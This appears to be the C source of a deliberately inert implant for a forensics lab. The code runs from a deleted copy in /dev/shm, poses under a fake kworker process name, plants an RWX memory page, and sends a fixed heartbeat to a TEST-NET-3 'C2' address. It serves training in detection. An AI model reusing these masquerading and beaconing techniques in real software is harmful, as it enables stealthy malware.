/*
 * The lab's implant: inert by design. It hides the way real ones do (runs from a deleted file under a kernel thread's
 * name) and holds one TCP connection to 203.0.113.66, an address of TEST-NET-3 that no router forwards. It sends a fixed
 * line, never reads anything, runs no command and touches no file but its own copy.
 *
 * No C library: the file stays below 16 KiB, so that the disk image and the memory image can hold the same bytes.
 */
#include <asm/unistd_64.h>

#define HIDDEN_NAME "[kworker/u8:3-events]"
#define HIDDEN_FILE "/dev/shm/kdmtmpflush"
#define C2_PORT 4443
#define C2_ADDRESS {203, 0, 113, 66}
#define BEAT_SECONDS 15

typedef long word;

static const char marker[] = "FORENSIC-LAB-IMPLANT-7f3a91c2 inert test beacon\n";

static word call(word number, word a, word b, word c, word d, word e, word f)
{
    register word r10 asm("r10") = d;
    register word r8 asm("r8") = e;
    register word r9 asm("r9") = f;
    word result;
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                 : "rcx", "r11", "memory");
    return result;
}

#define call0(n) call(n, 0, 0, 0, 0, 0, 0)
#define call1(n, a) call(n, (word)(a), 0, 0, 0, 0, 0)
#define call2(n, a, b) call(n, (word)(a), (word)(b), 0, 0, 0, 0)
#define call3(n, a, b, c) call(n, (word)(a), (word)(b), (word)(c), 0, 0, 0)

static void leave(int status)
{
    for (;;)
        call1(__NR_exit_group, status);
}

static void doze(word seconds)
{
    word pause[2] = {seconds, 0};
    call2(__NR_nanosleep, pause, 0);
}

/* First run: copy the program to a tmpfs and start the copy under a kernel thread's name. */
static void hide(void)
{
    static char buffer[4096];
    static char *arguments[] = {HIDDEN_NAME, 0};
    static char *environment[] = {0};
    word got;
    word self = call3(__NR_open, "/proc/self/exe", 0, 0);
    word copy = call3(__NR_open, HIDDEN_FILE, 0x241 /* O_WRONLY|O_CREAT|O_TRUNC */, 0700);
    if (self < 0 || copy < 0)
        leave(1);
    while ((got = call3(__NR_read, self, buffer, sizeof buffer)) > 0)
        if (call3(__NR_write, copy, buffer, got) != got)
            leave(1);
    call1(__NR_close, self);
    call1(__NR_close, copy);
    if (call0(__NR_fork) != 0)
        leave(0);
    call0(__NR_setsid);
    call3(__NR_execve, HIDDEN_FILE, arguments, environment);
    leave(1);
}

/* A private writable and executable page that holds the marker: never run, there for malfind. */
static void plant_page(void)
{
    word page = call(__NR_mmap, 0, 4096, 7 /* rwx */, 0x22 /* private, anonymous */, -1, 0);
    if (page < 0 && page > -4096)
        return;
    ((char *)page)[0] = (char)0xc3;
    for (unsigned i = 0; i < sizeof marker; i++)
        ((char *)page)[16 + i] = marker[i];
}

static void beacon(void)
{
    struct {
        unsigned short family;
        unsigned char port[2];
        unsigned char address[4];
        unsigned char zero[8];
    } peer = {2, {C2_PORT >> 8, C2_PORT & 255}, C2_ADDRESS, {0}};
    for (;;) {
        word s = call3(__NR_socket, 2, 1, 0);
        if (s >= 0 && call3(__NR_connect, s, &peer, sizeof peer) == 0)
            while (call3(__NR_write, s, marker, sizeof marker - 1) > 0)
                doze(BEAT_SECONDS);
        call1(__NR_close, s);
        doze(BEAT_SECONDS);
    }
}

__attribute__((used)) static void start(word *stack)
{
    char **arguments = (char **)(stack + 1);
    if (stack[0] < 1 || arguments[0][0] != '[')
        hide();
    call1(__NR_unlink, HIDDEN_FILE);
    call2(__NR_prctl, 15 /* PR_SET_NAME */, "kworker/u8:3");
    plant_page();
    beacon();
}

asm(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call start\n");
